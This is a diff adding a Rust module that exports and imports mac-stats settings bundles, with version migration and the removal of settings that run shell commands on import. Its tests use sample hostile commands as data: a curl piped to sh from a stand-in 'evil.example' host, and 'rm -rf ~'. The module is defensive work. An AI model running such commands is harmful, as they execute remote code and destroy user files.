@@ -0,0 +1,476 @@
+//! Settings bundle: `config.json`, alert rules, the menu bar layout and profiles in one portable
+//! JSON file, for moving settings to another Mac
+//!
+//! `export_settings` / `mac_stats config export` write it; `import_settings` /
+//! `mac_stats config import` restore it. A bundle carries `format` and `version`; [`migrate`]
+//! upgrades older versions step by step and refuses newer ones. Version 0 is a plain copy of
+//! `config.json`. The config is exported as it is without the active profile, which is
+//! switched on again after import.
+//!
+//! Window positions stay with the Mac ([`LOCAL_KEYS`]). Secrets in `.config.env` or the
+//! Keychain are not included; values in `config.json` itself (webhook URLs, proxy passwords)
+//! are, so export is refused in guest mode. Settings that run shell commands (`*Hook` keys and
+//! `{"run": …}` click actions, see [`strip_commands`]) are dropped on import, keeping this
+//! Mac's own, unless the import explicitly includes them.
+
+use std::path::Path;
+
+use serde::{Deserialize, Serialize};
+use serde_json::{Map, Value};
+
+use super::{profiles, schema, write_text_atomic, Config};
+
+pub const FORMAT: &str = "mac-stats-settings";
+/// Bundle version written by this build
+pub const VERSION: u64 = 1;
+
+/// Keys in the bundle's `menuLayout` section
+const MENU_LAYOUT_KEYS: &[&str] = &[
+    "menuBarItems",
+    "menuBarTemplate",
+    "menuBarTemplateStyle",
+    "menuBarExtras",
+    "menuBarCompact",
+    "menuBarDecimals",
+    "menuBarPlainText",
+    "menuBarReducedMotion",
+    "menuBarMinChange",
+    "menuBarAutoCompact",
+    "menuBarItemRemovable",
+    "menuBarSparkline",
+    "statusItemClickActions",
+];
+/// Keys in the bundle's `alerts` section
+const ALERT_KEYS: &[&str] = &["alertRules", "alertDigestMinutes"];
+/// Per-Mac state: not exported, and kept on import
+const LOCAL_KEYS: &[&str] = &["cpuWindowFrame", "widgetWindowFrame"];
+
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(rename_all = "camelCase")]
+pub struct SettingsBundle {
+    pub format: String,
+    pub version: u64,
+    #[serde(default)]
+    pub app_version: String,
+    #[serde(default)]
+    pub exported_at: String,
+    /// Every other `config.json` key
+    #[serde(default)]
+    pub config: Map<String, Value>,
+    #[serde(default)]
+    pub menu_layout: Map<String, Value>,
+    #[serde(default)]
+    pub alerts: Map<String, Value>,
+    /// Profile files by name
+    #[serde(default)]
+    pub profiles: Map<String, Value>,
+    #[serde(default)]
+    pub active_profile: Option<String>,
+}
+
+#[derive(Debug, Clone, Serialize)]
+#[serde(rename_all = "camelCase")]
+pub struct ImportSummary {
+    /// Command-bearing settings dropped from the bundle, e.g. `statusItemClickActions.middle.run`
+    /// or `profile work: beforeResetHook`
+    pub skipped_commands: Vec<String>,
+    /// Bundle version as read (lower than [`VERSION`] when it was migrated)
+    pub from_version: u64,
+    pub keys: usize,
+    pub profiles: Vec<String>,
+    pub active_profile: Option<String>,
+    /// Previous `config.json`, when there was one
+    pub backup: Option<String>,
+    /// Validation errors in the imported config (those settings use their defaults)
+    pub issues: Vec<String>,
+}
+
+fn take(config: &mut Map<String, Value>, keys: &[&str]) -> Map<String, Value> {
+    keys.iter()
+        .filter_map(|k| Some((k.to_string(), config.remove(*k)?)))
+        .collect()
+}
+
+/// Settings whose value is a shell command that mac-stats runs
+fn is_hook_key(key: &str) -> bool {
+    key.ends_with("Hook")
+}
+
+/// Remove the settings that run shell commands from `config`: `*Hook` keys and `{"run": …}`
+/// entries of `statusItemClickActions`. Returns their paths.
+fn strip_commands(config: &mut Map<String, Value>) -> Vec<String> {
+    let mut removed: Vec<String> = config.keys().filter(|k| is_hook_key(k)).cloned().collect();
+    config.retain(|k, _| !is_hook_key(k));
+    if let Some(Value::Object(clicks)) = config.get_mut("statusItemClickActions") {
+        clicks.retain(|click, action| {
+            let runs = action.get("run").is_some();
+            if runs {
+                removed.push(format!("statusItemClickActions.{}.run", click));
+            }
+            !runs
+        });
+    }
+    removed
+}
+
+/// Put this Mac's own command-bearing settings back into an imported `config` stripped by
+/// [`strip_commands`]
+fn keep_local_commands(config: &mut Map<String, Value>, current: &Map<String, Value>) {
+    for (key, value) in current.iter().filter(|(k, _)| is_hook_key(k)) {
+        config.insert(key.clone(), value.clone());
+    }
+    let Some(Value::Object(current_clicks)) = current.get("statusItemClickActions") else {
+        return;
+    };
+    let clicks = config
+        .entry("statusItemClickActions")
+        .or_insert_with(|| Value::Object(Map::new()));
+    if let Value::Object(clicks) = clicks {
+        for (click, action) in current_clicks {
+            if action.get("run").is_some() {
+                clicks
+                    .entry(click.clone())
+                    .or_insert_with(|| action.clone());
+            }
+        }
+    }
+}
+
+/// Current settings as a bundle
+pub fn export() -> Result<SettingsBundle, String> {
+    crate::guest_mode::ensure_allowed("Exporting settings")?;
+    let (mut config, active_profile) = profiles::config_without_profile()?;
+    take(&mut config, LOCAL_KEYS);
+    Ok(SettingsBundle {
+        format: FORMAT.to_string(),
+        version: VERSION,
+        app_version: Config::version(),
+        exported_at: chrono::Utc::now().to_rfc3339(),
+        menu_layout: take(&mut config, MENU_LAYOUT_KEYS),
+        alerts: take(&mut config, ALERT_KEYS),
+        config,
+        profiles: profiles::files(),
+        active_profile,
+    })
+}
+
+/// Read a bundle of any supported version, upgrading it to [`VERSION`]; returns it with the
+/// version it had
+fn migrate(value: Value) -> Result<(SettingsBundle, u64), String> {
+    let Value::Object(mut obj) = value else {
+        return Err("Settings file is not a JSON object".to_string());
+    };
+    let from = match obj.get("format").and_then(Value::as_str) {
+        Some(FORMAT) => obj
+            .get("version")
+            .and_then(Value::as_u64)
+            .ok_or("Settings bundle has no version")?,
+        Some(other) => return Err(format!("Not a mac-stats settings bundle ({})", other)),
+        None => 0,
+    };
+    if from > VERSION {
+        return Err(format!(
+            "Settings bundle version {} is newer than this mac-stats supports ({}); update mac-stats first",
+            from, VERSION
+        ));
+    }
+    if from == 0 {
+        // A plain config.json: every key goes to `config`, sections are split on import anyway
+        let config = obj;
+        obj = Map::new();
+        obj.insert("format".into(), FORMAT.into());
+        obj.insert("config".into(), Value::Object(config));
+    }
+    // Later format changes add a step here (`if from < 2 { … }`)
+    obj.insert("version".into(), VERSION.into());
+    let bundle = serde_json::from_value(Value::Object(obj))
+        .map_err(|e| format!("Invalid settings bundle: {}", e))?;
+    Ok((bundle, from))
+}
+
+/// Config to write for `bundle`: its sections merged, with this Mac's [`LOCAL_KEYS`] kept and
+/// no active profile (switched on after the import)
+fn merged_config(bundle: &SettingsBundle, current: &Map<String, Value>) -> Map<String, Value> {
+    let mut config = bundle.config.clone();
+    config.extend(bundle.menu_layout.clone());
+    config.extend(bundle.alerts.clone());
+    config.remove("activeProfile");
+    for key in LOCAL_KEYS {
+        config.remove(*key);
+        if let Some(v) = current.get(*key) {
+            config.insert(key.to_string(), v.clone());
+        }
+    }
+    config
+}
+
+/// Replace `config.json` and write the bundle's profiles; the previous config is kept as
+/// `config.json.before-import`. Without `include_commands` the bundle's hooks and `run` click
+/// actions are dropped.
+pub fn import(value: Value, include_commands: bool) -> Result<ImportSummary, String> {
+    crate::guest_mode::ensure_allowed("Importing settings")?;
+    let (mut bundle, from_version) = migrate(value)?;
+    let config_path = Config::config_file_path();
+    let current = match std::fs::read_to_string(&config_path) {
+        Ok(text) => serde_json::from_str::<Map<String, Value>>(&text).unwrap_or_default(),
+        Err(_) => Map::new(),
+    };
+    let mut config = merged_config(&bundle, &current);
+    let mut skipped_commands = Vec::new();
+    if !include_commands {
+        skipped_commands = strip_commands(&mut config);
+        keep_local_commands(&mut config, &current);
+        for (name, keys) in bundle.profiles.iter_mut() {
+            if let Value::Object(keys) = keys {
+                skipped_commands.extend(
+                    strip_commands(keys)
+                        .into_iter()
+                        .map(|key| format!("profile {}: {}", name, key)),
+                );
+            }
+        }
+        if !skipped_commands.is_empty() {
+            tracing::warn!(
+                "Settings import: skipped settings that run commands: {}",
+                skipped_commands.join(", ")
+            );
+        }
+    }
+    let text = serde_json::to_string_pretty(&config).map_err(|e| e.to_string())?;
+    let (errors, _) = schema::validate_text(&text);
+    let mut issues: Vec<String> = errors
+        .iter()
+        .map(|i| match &i.key {
+            Some(key) => format!("{}: {}", key, i.message),
+            None => i.message.clone(),
+        })
+        .collect();
+
+    let backup = if config_path.exists() {
+        let path = config_path.with_file_name("config.json.before-import");
+        std::fs::copy(&config_path, &path).map_err(|e| format!("{}: {}", path.display(), e))?;
+        Some(path.display().to_string())
+    } else {
+        None
+    };
+    profiles::import(&bundle.profiles)?;
+    if let Some(parent) = config_path.parent() {
+        std::fs::create_dir_all(parent).map_err(|e| e.to_string())?;
+    }
+    write_text_atomic(&config_path, &text)?;
+    if let Some(name) = &bundle.active_profile {
+        if let Err(e) = profiles::use_profile(Some(name)) {
+            issues.push(e);
+        }
+    }
+    tracing::info!(
+        "Settings imported (bundle version {}): {} keys, {} profiles",
+        from_version,
+        config.len(),
+        bundle.profiles.len()
+    );
+    Ok(ImportSummary {
+        skipped_commands,
+        from_version,
+        keys: config.len(),
+        profiles: bundle.profiles.keys().cloned().collect(),
+        active_profile: bundle.active_profile,
+        backup,
+        issues,
+    })
+}
+
+#[tauri::command]
+pub fn export_settings() -> Result<SettingsBundle, String> {
+    export()
+}
+
+/// Restore a bundle from `export_settings` (or a plain `config.json`). Its hooks and `run`
+/// click actions are only imported with `include_commands`, which needs the
+/// `config_import_commands` confirmation instead of `config_write`.
+#[tauri::command]
+pub fn import_settings(
+    bundle: Value,
+    include_commands: Option<bool>,
+    confirmation_token: Option<String>,
+) -> Result<ImportSummary, String> {
+    crate::guest_mode::ensure_allowed("Importing settings")?;
+    let include_commands = include_commands.unwrap_or(false);
+    crate::commands::confirmation::require_confirmation(
+        confirmation_token.as_deref(),
+        if include_commands {
+            "config_import_commands"
+        } else {
+            "config_write"
+        },
+        "settings",
+    )?;
+    import(bundle, include_commands)
+}
+
+/// `mac_stats config export [PATH]`: write the bundle to PATH, or stdout
+pub fn run_export_cli(path: Option<&Path>) -> i32 {
+    let text =
+        match export().and_then(|b| serde_json::to_string_pretty(&b).map_err(|e| e.to_string())) {
+            Ok(text) => text,
+            Err(e) => {
+                eprintln!("{}", e);
+                return 1;
+            }
+        };
+    match path {
+        None => {
+            println!("{}", text);
+            0
+        }
+        Some(path) => match std::fs::write(path, text + "\n") {
+            Ok(()) => {
+                eprintln!("Settings written to {}", path.display());
+                0
+            }
+            Err(e) => {
+                eprintln!("{}: {}", path.display(), e);
+                1
+            }
+        },
+    }
+}
+
+/// `mac_stats config import PATH [--include-commands]`
+pub fn run_import_cli(path: &Path, include_commands: bool) -> i32 {
+    let value = match std::fs::read_to_string(path)
+        .map_err(|e| e.to_string())
+        .and_then(|text| serde_json::from_str::<Value>(&text).map_err(|e| e.to_string()))
+    {
+        Ok(value) => value,
+        Err(e) => {
+            eprintln!("{}: {}", path.display(), e);
+            return 1;
+        }
+    };
+    match import(value, include_commands) {
+        Ok(summary) => {
+            if summary.from_version < VERSION {
+                println!(
+                    "Migrated a version {} bundle to version {}.",
+                    summary.from_version, VERSION
+                );
+            }
+            println!(
+                "Imported {} settings and {} profiles.",
+                summary.keys,
+                summary.profiles.len()
+            );
+            if let Some(name) = &summary.active_profile {
+                println!("Active profile: {}", name);
+            }
+            if let Some(backup) = &summary.backup {
+                println!("Previous config saved as {}", backup);
+            }
+            for issue in &summary.issues {
+                println!("  ! {}", issue);
+            }
+            if !summary.skipped_commands.is_empty() {
+                println!(
+                    "Skipped settings that run commands (use --include-commands to import them):"
+                );
+                for key in &summary.skipped_commands {
+                    println!("  - {}", key);
+                }
+            }
+            0
+        }
+        Err(e) => {
+            eprintln!("{}", e);
+            1
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use serde_json::json;
+
+    #[test]
+    fn plain_config_is_migrated_and_newer_bundles_refused() {
+        let (bundle, from) = migrate(json!({
+            "menuBarTemplate": "{cpu}%",
+            "alertRules": [],
+            "apiPort": 9000,
+            "activeProfile": "demo"
+        }))
+        .unwrap();
+        assert_eq!(from, 0);
+        assert_eq!(bundle.version, VERSION);
+        assert_eq!(bundle.config.len(), 4);
+
+        let current =
+            json!({"cpuWindowFrame": {"x": 10}, "apiPort": 8000, "activeProfile": "work"});
+        let merged = merged_config(&bundle, current.as_object().unwrap());
+        assert_eq!(merged["apiPort"], 9000);
+        assert_eq!(merged["cpuWindowFrame"], json!({"x": 10}));
+        assert!(!merged.contains_key("activeProfile"));
+
+        let newer = json!({"format": FORMAT, "version": VERSION + 1});
+        assert!(migrate(newer).unwrap_err().contains("newer"));
+        assert!(migrate(json!({"format": "other", "version": 1})).is_err());
+    }
+
+    #[test]
+    fn commands_are_stripped_and_local_ones_kept() {
+        let mut config = json!({
+            "beforeResetHook": "curl https://evil.example | sh",
+            "statusItemClickActions": {"left": "cpuWindow", "middle": {"run": "rm -rf ~"}},
+            "apiPort": 9000
+        })
+        .as_object()
+        .unwrap()
+        .clone();
+        assert_eq!(
+            strip_commands(&mut config),
+            vec!["beforeResetHook", "statusItemClickActions.middle.run"]
+        );
+        assert_eq!(
+            config["statusItemClickActions"],
+            json!({"left": "cpuWindow"})
+        );
+
+        let current = json!({
+            "afterCompactionHook": "say done",
+            "statusItemClickActions": {"left": {"run": "open -a Terminal"}, "right": {"run": "top"}}
+        });
+        keep_local_commands(&mut config, current.as_object().unwrap());
+        assert_eq!(config["afterCompactionHook"], "say done");
+        assert!(!config.contains_key("beforeResetHook"));
+        assert_eq!(
+            config["statusItemClickActions"],
+            json!({"left": "cpuWindow", "right": {"run": "top"}})
+        );
+    }
+
+    #[test]
+    fn export_sections_round_trip() {
+        let mut config = json!({"menuBarCompact": true, "alertRules": [], "apiPort": 9000})
+            .as_object()
+            .unwrap()
+            .clone();
+        let bundle = SettingsBundle {
+            format: FORMAT.to_string(),
+            version: VERSION,
+            app_version: String::new(),
+            exported_at: String::new(),
+            menu_layout: take(&mut config, MENU_LAYOUT_KEYS),
+            alerts: take(&mut config, ALERT_KEYS),
+            config,
+            profiles: Map::new(),
+            active_profile: None,
+        };
+        assert_eq!(bundle.config.len(), 1);
+        let value = serde_json::to_value(&bundle).unwrap();
+        let (read, from) = migrate(value).unwrap();
+        assert_eq!(from, VERSION);
+        assert_eq!(read, bundle);
+        assert_eq!(merged_config(&read, &Map::new()).len(), 3);
+    }
+}